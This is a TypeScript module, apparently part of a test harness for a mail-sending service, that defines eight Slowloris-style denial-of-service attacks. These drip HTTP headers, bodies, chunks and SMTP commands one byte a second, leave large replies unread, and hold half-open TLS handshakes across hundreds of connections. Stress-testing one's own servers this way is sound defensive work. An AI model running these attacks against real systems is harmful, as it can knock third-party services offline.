/**
 * Slowloris attacks: connections on every listener that send as little as possible for as long as they are allowed to.
 */
import { setTimeout as pause } from 'node:timers/promises'
import type { AttackSet } from './catalog.ts'
import type { HostileClient, AttackConnection } from './hostile.ts'
import { buildPostHead } from './http.ts'

/** Number of connections per attacker: as many as one address may have, plus some that are refused. */
const MANY = 250
/** Interval between two bytes, in milliseconds. */
const DRIP = 1000

/** Sends one byte per second until the connection ends. */
async function drip(hostile: HostileClient, wire: AttackConnection, octet: string): Promise<void> {
  while (wire.open && !hostile.over) {
    await pause(Math.min(DRIP, hostile.left))
    await wire.say(octet)
  }
  wire.close()
}

/** The start of a TLS handshake: a record that announces more than is sent. */
const HALF_HELLO = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])

export const SLOW_ATTACKS: AttackSet = {
  'slow-http-header': {
    what: 'HTTP headers, an octet a second',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.open(hostile.target.http)
        if (!wire) return
        await wire.say('GET /emails HTTP/1.1\r\nHost: mail.sender.example\r\nX-A: ')
        await drip(hostile, wire, 'a')
      }),
  },
  'slow-http-body': {
    what: 'HTTP bodies, an octet a second',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.open(hostile.target.http)
        if (!wire) return
        await wire.say(`${buildPostHead('/emails', hostile.team.key, 40_000_000)}{"html":"`)
        await drip(hostile, wire, 'a')
      }),
  },
  'slow-http-chunks': {
    what: 'Chunked HTTP bodies, a chunk of one octet a second',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.open(hostile.target.https, { tls: true })
        if (!wire) return
        await wire.say(buildPostHead('/session', null, 'chunked'))
        await drip(hostile, wire, '1\r\n{\r\n')
      }),
  },
  'slow-http-reader': {
    what: 'Requests for large answers that are never read',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.open(hostile.target.http, { deaf: true })
        if (!wire) return
        const request = 'GET /openapi.json HTTP/1.1\r\nHost: mail.sender.example\r\n\r\n'
        await wire.say(request.repeat(100))
        await hostile.hold(wire)
      }),
  },
  'slow-smtp-command': {
    what: 'SMTP commands, an octet a second',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.open(hostile.target.starttls)
        if (!wire) return
        await wire.say('EHLO ')
        await drip(hostile, wire, 'a')
      }),
  },
  'slow-smtp-data': {
    what: 'SMTP messages, an octet a second',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.signedIn()
        if (!wire || !(await hostile.begin(wire))) return
        await drip(hostile, wire, 'a')
      }),
  },
  'slow-smtp-reader': {
    what: 'SMTP commands whose replies are never read',
    run: (hostile) =>
      hostile.swarm(MANY, async () => {
        const wire = await hostile.open(hostile.target.starttls, { deaf: true })
        if (!wire) return
        await wire.say('EHLO attacker.example\r\n'.repeat(20_000))
        await hostile.hold(wire)
      }),
  },
  'slow-tls': {
    what: 'Half-open TLS handshakes on HTTPS, SMTPS and STARTTLS',
    run: (hostile) =>
      hostile.swarm(3 * MANY, async (n) => {
        const { https, implicit, starttls } = hostile.target
        const port = [https, implicit, starttls][n % 3]!
        const wire = await hostile.open(port)
        if (!wire) return
        if (port === starttls) {
          await wire.say('EHLO attacker.example\r\n')
          await wire.hear(/^250 .*\r\n/m)
          await wire.say('STARTTLS\r\n')
          await wire.hear(/^220 .*\r\n/m)
        }
        await wire.say(HALF_HELLO)
        await hostile.hold(wire)
      }),
  },
}
